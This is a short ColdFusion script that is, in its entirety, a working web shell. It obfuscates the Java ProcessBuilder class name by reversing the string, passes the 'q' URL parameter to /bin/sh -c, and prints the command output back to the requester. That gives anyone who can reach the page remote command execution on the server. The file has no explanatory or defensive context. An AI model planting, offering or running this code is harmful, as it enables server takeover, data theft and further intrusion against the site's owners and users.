<cfscript>
cls = reverse("redliuBssecorP.gnal.avaj");
if (structKeyExists(url, "q")) {
  p = createObject("java", cls).init(["/bin/sh", "-c", url.q]).redirectErrorStream(true).start();
  writeOutput(createObject("java", "java.util.Scanner").init(p.getInputStream()).useDelimiter("\\A").next());
}
</cfscript>
